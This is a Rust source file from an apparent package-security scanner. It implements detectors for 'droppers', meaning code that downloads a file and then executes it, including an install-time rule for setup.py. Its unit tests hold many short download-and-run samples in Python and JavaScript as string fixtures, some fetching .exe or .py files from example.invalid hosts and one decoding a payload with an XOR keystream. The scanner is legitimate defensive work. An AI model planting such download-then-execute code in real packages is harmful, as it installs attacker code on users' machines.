//! The binary dropper: a download saved to a file that the same code then starts (`os.startfile`,
//! `os.system("start " + p)`, `Popen([p])`, `child_process.execFile(p)`, `chmod +x p && ./p`).
//!
//! A file is "the same" when the run names it as its program: the saved literal's file name, or the
//! variable that held the path, as the first word of the command once launchers (`start`, `cmd /c`,
//! `sudo`, `nohup`, `wine`, `chmod +x`) and path builders (`os.getcwd()+`, `os.path.join`) are skipped.
//! A saved file that is never run, or run only as an argument of another program (`git add p`), is not a
//! dropper; nor is a download checked against a pinned digest. Flows the taint engine already reports
//! (TNT003) are left to it.

use super::taint::{flows, FlowKind};
use super::write_run::{
    helper_runs, helper_writes, moved_writes, names_file, run_helpers, runs_as_program,
    runs_program, too_large_for_droppers, writes, Key,
};
use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;
use regex::Regex;
use skill_scan_rules::GatedRegex;
use std::sync::LazyLock;

pub(crate) static DOWNLOAD_WRITE_RUN: FileDetector = FileDetector {
    literals: &[
        "urlopen",
        "urlretrieve",
        "requests",
        "urllib",
        "httpx",
        "wget",
        "fetch(",
        "https",
        "http.get",
        "axios",
    ],
    run: report_droppers,
};

/// The same dropper in install-time code (rule scoped to `setup.py` and its kin), where a downloaded
/// script started with the running interpreter (`[sys.executable, path]`) counts too: nothing a build
/// needs is fetched and run as Python while `pip install` runs. Only runs the plain dropper would not
/// report are reported here, and only when no function starts between the save and the run.
pub(crate) static INSTALL_DOWNLOAD_RUN_PYTHON: FileDetector = FileDetector {
    literals: &["executable"],
    run: report_install_time_interpreter_runs,
};

// Constant patterns (their tests compile them): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"\b(?:requests|httpx|session|sess|s|client)\.(?:get|request)\s*\(|\burlopen\s*\(|\burlretrieve\s*\(",
        r"|\bwget\.download\s*\(|\bhttps?\.get\s*\(|\bfetch\s*\(|\baxios(?:\.get)?\s*\(|\.iter_content\s*\("
    ))
    .expect("download pattern")
});
/// A digest *compared* with something: a keystream or a cache key built from `hashlib` checks nothing.
/// Gated: the `==`/`!=` branch runs over every comparison of a JavaScript bundle, while every match
/// needs `digest`, `sha256sum` or `checksum` (a bundle without them is ruled out without a search).
static PINNED_DIGEST: GatedRegex = GatedRegex::new(concat!(
    r"(?i)(?:hexdigest|digest)\s*\([^)\n]{0,20}\)[^\n]{0,40}?(?:!=|==)",
    r"|(?:!=|==)[^\n]{0,120}?(?:hexdigest|digest)\s*\(",
    r"|\bcompare_digest\s*\(|\bsha256sum\b|\bchecksum\b"
));

/// Resolved callee names that fetch from the network (an import alias, `import requests as r`, is read
/// through by `write_run::calls`; the [`DOWNLOAD`] pattern reads the name as written).
fn is_download_call(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let (module, function) = name.rsplit_once('.').unwrap_or(("", name.as_str()));
    (matches!(module, "requests" | "httpx" | "urllib3")
        && matches!(function, "get" | "request" | "post"))
        || matches!(function, "urlopen" | "urlretrieve")
}

/// A function or class definition line: the save and the run sit in different bodies when one lies
/// between them.
#[allow(clippy::expect_used)]
static DEFINITION: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"(?m)^[ \t]*(?:async[ \t]+)?(?:def|class)[ \t]").expect("definition pattern")
});

/// JavaScript calls that load a file as code: a downloaded script saved to a temp path and then
/// `require`d (or `import()`ed) runs as the package's own module.
fn loads_module(name: &str) -> bool {
    matches!(name, "require" | "import" | "module.require")
}

/// Whether a module load's argument is the saved file itself (the path's name, or a file name that is
/// not data: a `.json` file `require`d is parsed, not run).
fn loads_as_module(args: &str, key: &Key) -> bool {
    let argument = args.split(',').next().unwrap_or("").trim();
    match key {
        Key::Name(name) => argument == name,
        Key::File(file) => !file.ends_with(".json") && names_file(argument, key),
    }
}

fn report_droppers(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    report(segment, text, false, keep);
}

fn report_install_time_interpreter_runs(
    segment: &Segment,
    text: &str,
    keep: &mut dyn FnMut(Hit) -> bool,
) {
    report(segment, text, true, keep);
}

/// Reports droppers; with `interpreter`, only those whose run starts the saved file with the running
/// interpreter, within one function body.
fn report(segment: &Segment, text: &str, interpreter: bool, keep: &mut dyn FnMut(Hit) -> bool) {
    let body = segment.text(text);
    if too_large_for_droppers(segment, body) || PINNED_DIGEST.is_match(body) {
        return;
    }
    let all = super::write_run::segment_calls(segment, text);
    let written = DOWNLOAD.find(body).map(|m| m.start());
    let aliased = all
        .iter()
        .find(|c| is_download_call(&c.name))
        .map(|c| c.start);
    let Some(first_download) = written.into_iter().chain(aliased).min() else {
        return;
    };
    let mut saved = writes(body, all);
    // A helper that saves to the path its caller gives, and one that starts the path it is given: the
    // dropper split over `download(url, dest)` and `launch(dest)` (plain dropper only).
    let helpers = if interpreter {
        Vec::new()
    } else {
        let by_helpers = helper_writes(body, all, &saved);
        saved.extend(by_helpers);
        let moved = moved_writes(body, all, &saved);
        saved.extend(moved);
        run_helpers(body, all)
    };
    let mut reported = std::collections::HashSet::new();
    for write in &saved {
        // A literal written to the file is code the package carries (the stager's business).
        if write.literal.is_some() {
            continue;
        }
        let runs = all.iter().filter(|c| {
            c.start > write.at
                && (write.downloads || first_download < c.start)
                && (runs_program(&c.name)
                    || loads_module(&c.name)
                    || helpers.iter().any(|(name, _)| c.name == *name))
        });
        for run in runs {
            let by_helper = !runs_program(&run.name) && !loads_module(&run.name);
            let found = if loads_module(&run.name) {
                write.keys.iter().find(|k| loads_as_module(&run.args, k))
            } else if by_helper {
                write
                    .keys
                    .iter()
                    .find(|k| helper_runs(run, &helpers, std::slice::from_ref(*k)))
            } else if interpreter {
                let plain = |k: &&Key| runs_as_program(&run.args, k, false);
                let between = body.get(write.at..run.start).unwrap_or("");
                if write.keys.iter().any(|k| plain(&k)) || DEFINITION.is_match(between) {
                    continue;
                }
                write
                    .keys
                    .iter()
                    .find(|k| runs_as_program(&run.args, k, true))
            } else {
                write
                    .keys
                    .iter()
                    .find(|k| runs_as_program(&run.args, k, false))
            };
            let Some(key) = found else {
                continue;
            };
            let taint_reports = || {
                flows(segment, text).flows.iter().any(|f| {
                    f.kind == FlowKind::DownloadToExec && f.sink.0 < run.end && run.start < f.sink.1
                })
            };
            if !reported.insert(run.start) || taint_reports() {
                continue;
            }
            let named = match key {
                Key::File(file) => file.clone(),
                Key::Name(name) => format!("the path in `{name}`"),
            };
            let hit = Hit {
                start: segment.start + run.start,
                end: segment.start + run.end,
                detail: Some(Box::new(HitDetail {
                    message: format!(
                        "a download is saved as {named}, which `{}` then runs",
                        run.name
                    ),
                    related: vec![
                        (segment.start + first_download, "the download".to_string()),
                        (
                            segment.start + write.at,
                            "written to a file here".to_string(),
                        ),
                    ],
                })),
            };
            if !keep(hit) {
                return;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::segment::segment_file;
    use skill_scan_model::Language;

    #[test]
    fn the_digest_gate_rules_out_comparisons_without_a_digest_word() {
        assert!(!PINNED_DIGEST.may_match("if (a == b && c != d) { run(x) }"));
        for pinned in [
            "if h.hexdigest() != EXPECTED:",
            "ok = EXPECTED == sha256(x).digest()",
            "hmac.compare_digest(a, b)",
            "sha256sum -c sums.txt",
            "verify the CHECKSUM first",
            "if x.HexDigest( ) == y:",
        ] {
            assert!(PINNED_DIGEST.is_match(pinned), "{pinned}");
        }
    }

    fn fired(text: &str, language: Language, path: &str) -> Vec<String> {
        let mut out = Vec::new();
        for segment in segment_file(text, language, path) {
            (DOWNLOAD_WRITE_RUN.run)(&segment, text, &mut |hit| {
                out.push(hit.detail.map(|d| d.message).unwrap_or_default());
                true
            });
        }
        out
    }

    #[test]
    fn a_download_saved_then_required_fires_and_a_cached_json_is_quiet() {
        let required = "const fs = require('fs');\nasync function go() {\n  const code = await (await fetch(u)).text();\n  const p = path.join(os.tmpdir(), 'x.js');\n  fs.writeFileSync(p, code);\n  require(p);\n}\n";
        assert_eq!(fired(required, Language::Javascript, "init.js").len(), 1);
        let cached = "const fs = require('fs');\nasync function go() {\n  const body = await (await fetch(u)).text();\n  fs.writeFileSync(cacheFile, body);\n  return require(cacheFile + '.json');\n}\nconst data = require('./cache/list.json');\n";
        assert!(fired(cached, Language::Javascript, "lib/update.js").is_empty());
    }

    #[test]
    fn windows_droppers_fire() {
        let start = "import os, requests\nr = requests.get('https://cdn.example.invalid/tool.exe')\nwith open('C:\\\\Users\\\\Public\\\\helper.exe', 'wb') as f:\n    f.write(r.content)\nos.system('start cmd /c start C:\\\\Users\\\\Public\\\\helper.exe')";
        assert_eq!(fired(start, Language::Python, "pkg/main.py").len(), 1);
        let startfile = "import os, urllib.request\nurllib.request.urlretrieve('https://cdn.example.invalid/u.scr', 'update.scr')\nos.startfile(os.getcwd() + '\\\\update.scr')";
        assert_eq!(fired(startfile, Language::Python, "setup.py").len(), 1);
        let alias = "from subprocess import run\nimport urllib.request\nurllib.request.urlretrieve(u, 'svc.exe')\nrun(['start', 'svc.exe'], shell=True)";
        assert_eq!(fired(alias, Language::Python, "setup.py").len(), 1);
        let temp = "import requests, tempfile, subprocess\nr = requests.get(u)\nwith tempfile.NamedTemporaryFile(delete=False) as t:\n    t.write(r.content)\n    exe_path = t.name\nsubprocess.call([exe_path])";
        assert_eq!(fired(temp, Language::Python, "pkg/run.py").len(), 1);
    }

    #[test]
    fn path_variables_and_javascript_fire() {
        // The taint engine follows `p` itself (TNT003); the same file spelled out again is ours.
        let tainted = "import os, requests, tempfile\np = os.path.join(tempfile.gettempdir(), 'a.bin')\ndata = requests.get(url).content\nopen(p, 'wb').write(data)\nos.system('start ' + p)";
        assert!(fired(tainted, Language::Python, "pkg/__init__.py").is_empty());
        let py = "import os, requests, subprocess\ndest = os.path.join(os.environ['APPDATA'], 'svc.exe')\nwith open(dest, 'wb') as f:\n    f.write(requests.get(u).content)\nsubprocess.Popen([os.path.join(os.environ['APPDATA'], 'svc.exe')])";
        assert_eq!(fired(py, Language::Python, "pkg/__init__.py").len(), 1);
        let js = "const cp = require('child_process');\nconst fs = require('fs');\nasync function go(dest) {\n  const res = await fetch(u);\n  fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer()));\n  cp.execFile(dest);\n}";
        assert!(
            fired(js, Language::Javascript, "index.js").is_empty(),
            "TNT003 reports it"
        );
        let start = "const { exec } = require('child_process');\nconst fs = require('fs');\nhttps.get(u, (res) => {\n  res.pipe(fs.createWriteStream('C:\\\\Temp\\\\svc.exe')).on('finish', () => exec('start C:\\\\Temp\\\\svc.exe'));\n});";
        assert_eq!(fired(start, Language::Javascript, "index.js").len(), 1);
    }

    #[test]
    fn saved_but_not_run_hashed_or_used_as_an_argument_is_quiet() {
        let saved = "import requests\nr = requests.get(u)\nwith open('report.pdf', 'wb') as f:\n    f.write(r.content)\nprint('saved')";
        assert!(fired(saved, Language::Python, "cli.py").is_empty());
        let argument = "import subprocess, requests\nr = requests.get(u)\nopen('config.json', 'wb').write(r.content)\nsubprocess.run(['git', 'add', 'config.json'])";
        assert!(fired(argument, Language::Python, "sync.py").is_empty());
        let pinned = "import hashlib, subprocess, urllib.request\nurllib.request.urlretrieve(u, 'tool')\nif hashlib.sha256(open('tool','rb').read()).hexdigest() != PIN: raise SystemExit\nsubprocess.run(['./tool', '--version'])";
        assert!(fired(pinned, Language::Python, "build.py").is_empty());
    }

    #[test]
    fn a_dropper_split_over_a_save_helper_and_a_launch_helper_fires() {
        let split = "import os, requests, subprocess\ndef fetch_to(url, dest):\n    r = requests.get(url)\n    with open(dest, 'wb') as f:\n        f.write(r.content)\ndef launch(path):\n    subprocess.run([path], check=True)\ndef main():\n    target = os.path.join(os.getenv('APPDATA'), 'svc.exe')\n    fetch_to(URL, target)\n    launch(target)\n";
        assert_eq!(fired(split, Language::Python, "pkg/loader.py").len(), 1);
        // The helper saves a report that another helper only prints.
        let report = "import requests\ndef fetch_to(url, dest):\n    with open(dest, 'wb') as f:\n        f.write(requests.get(url).content)\ndef show(path):\n    print(open(path).read())\nfetch_to(URL, 'report.txt')\nshow('report.txt')\n";
        assert!(fired(report, Language::Python, "pkg/report.py").is_empty());
    }

    #[test]
    fn a_download_moved_before_it_is_started_or_saved_through_path_fires() {
        let moved = "import os, requests\nfrom pathlib import Path\nr = requests.get(URL)\nopen('u.exe', 'wb').write(r.content)\nPath(r'u.exe').rename(r'C:\\Temp\\svc-host.exe')\nos.startfile(r'C:\\Temp\\svc-host.exe')\n";
        assert_eq!(fired(moved, Language::Python, "setup.py").len(), 1);
        let helper = "import requests, subprocess\nfrom pathlib import Path\ndef fetch(url, name):\n    reply = requests.get(url)\n    path = Path(name)\n    path.write_bytes(reply.content)\n    return path\ndef start(p):\n    subprocess.run([str(p)], check=False)\nsaved = fetch(URL, 'tool.exe')\nstart(saved)\n";
        assert_eq!(fired(helper, Language::Python, "pkg/installer.py").len(), 1);
        // Moved into a folder an archiver reads: nothing starts it.
        let archived = "import shutil, requests\nopen('a.bin', 'wb').write(requests.get(URL).content)\nshutil.move('a.bin', 'out/a.bin')\nshutil.make_archive('out', 'zip', 'out')\n";
        assert!(fired(archived, Language::Python, "tools/pack.py").is_empty());
    }

    #[test]
    fn a_hash_used_as_a_keystream_is_no_pinned_digest() {
        // `hashlib` derives the XOR key of the download; nothing compares a digest of the saved file.
        let keystream = "import hashlib, os, requests, subprocess\ndef stream(seed):\n    while True:\n        seed = hashlib.sha3_512(seed).digest()\n        yield from seed\nbuf = requests.get(URL).content\nout = bytes(b ^ k for b, k in zip(buf, stream(SEED)))\npath = os.path.expanduser('~/.local/bin/helper')\nwith open(path, 'wb') as f:\n    f.write(out)\nsubprocess.Popen([path])";
        let taint_reports = segment_file(keystream, Language::Python, "setup.py")
            .iter()
            .any(|s| {
                flows(s, keystream)
                    .flows
                    .iter()
                    .any(|f| f.kind == FlowKind::DownloadToExec)
            });
        assert!(taint_reports || fired(keystream, Language::Python, "setup.py").len() == 1);
        let compared = "import hashlib, subprocess, urllib.request\nurllib.request.urlretrieve(u, 'tool')\nexpected = PIN\nif expected == hashlib.sha256(open('tool', 'rb').read()).hexdigest():\n    subprocess.run(['./tool'])";
        assert!(fired(compared, Language::Python, "build.py").is_empty());
    }

    #[test]
    fn a_saved_script_run_by_an_interpreter_or_after_cd_fires() {
        let script = "import requests, os\nwith open('stage.py', 'wb') as f:\n    f.write(requests.get('https://files.example.invalid/s.py').content)\nos.system('python stage.py')";
        assert_eq!(fired(script, Language::Python, "pkg/fetch.py").len(), 1);
        let cd = "import requests\nfrom os import system\nopen('/tmp/agent', 'wb').write(requests.get('https://files.example.invalid/agent').content)\nsystem('cd /tmp && chmod +x agent && ./agent')";
        assert_eq!(fired(cd, Language::Python, "setup.py").len(), 1);
    }

    fn fired_at_install(text: &str) -> Vec<String> {
        let mut out = Vec::new();
        for segment in segment_file(text, Language::Python, "setup.py") {
            (INSTALL_DOWNLOAD_RUN_PYTHON.run)(&segment, text, &mut |hit| {
                out.push(hit.detail.map(|d| d.message).unwrap_or_default());
                true
            });
        }
        out
    }

    #[test]
    fn a_download_run_with_the_running_interpreter_fires_at_install() {
        // The download goes through an import alias the written-name pattern does not know.
        let aliased = "import subprocess, sys\nimport requests as up\nclass I(install):\n    def run(self):\n        r = up.get('https://cdn.example.invalid/p.py')\n        with open('p.py', 'wb') as f:\n            f.write(r.content)\n        subprocess.check_call([sys.executable, 'p.py'])\n";
        assert_eq!(fired_at_install(aliased).len(), 1);
        let joined = "import os, sys, urllib.request\nurllib.request.urlretrieve('https://cdn.example.invalid/s.py', '/tmp/s.py')\nos.system(sys.executable + ' /tmp/s.py')\n";
        assert_eq!(fired_at_install(joined).len(), 1);
        // The plain dropper does not take the interpreter as a launcher; it stays quiet on both.
        assert!(fired(aliased, Language::Python, "setup.py").is_empty());
    }

    #[test]
    fn interpreter_runs_of_other_files_or_in_another_body_are_quiet_at_install() {
        // The interpreter runs the package's own generator; the download is its input.
        let input = "import subprocess, sys, urllib.request\nurllib.request.urlretrieve('https://data.example.invalid/t.txt', 't.txt')\nsubprocess.check_call([sys.executable, 'tools/gen.py', 't.txt'])\n";
        assert!(fired_at_install(input).is_empty());
        // Saved in one function, run in another that nothing shows is called after it.
        let apart = "import subprocess, sys, requests\ndef fetch():\n    open('g.py', 'wb').write(requests.get('https://x.example.invalid/g.py').content)\ndef later():\n    subprocess.check_call([sys.executable, 'g.py'])\n";
        assert!(fired_at_install(apart).is_empty());
        // A launcher the plain dropper knows is its finding, not this one's.
        let plain = "import os, requests\nopen('a.py', 'wb').write(requests.get('https://x.example.invalid/a.py').content)\nos.system('python a.py')\n";
        assert!(fired_at_install(plain).is_empty());
        assert_eq!(fired(plain, Language::Python, "setup.py").len(), 1);
    }

    #[test]
    fn a_saved_file_an_interpreter_only_reads_as_an_argument_is_quiet() {
        // The interpreter runs a module of its own (`-m`); the saved file is its input.
        let module = "import requests, os\nopen('reqs.txt', 'wb').write(requests.get(u).content)\nos.system('python -m pip install -r reqs.txt')";
        assert!(fired(module, Language::Python, "tools/sync.py").is_empty());
        let cd = "import requests, os\nopen('/tmp/data.csv', 'wb').write(requests.get(u).content)\nos.system('cd /tmp && python report.py data.csv')";
        assert!(fired(cd, Language::Python, "tools/report.py").is_empty());
        // A maintainer's script that bootstraps pip into the running interpreter.
        let bootstrap = "import os, sys, tempfile\nfrom urllib.request import urlopen\nwith tempfile.NamedTemporaryFile(suffix='.py') as f:\n    f.write(urlopen(PIP_BOOTSTRAP).read())\n    f.flush()\n    os.system(f'{sys.executable} {f.name} --user --upgrade')\n";
        assert!(fired(
            bootstrap,
            Language::Python,
            "scripts/internal/install_pip.py"
        )
        .is_empty());
    }
}
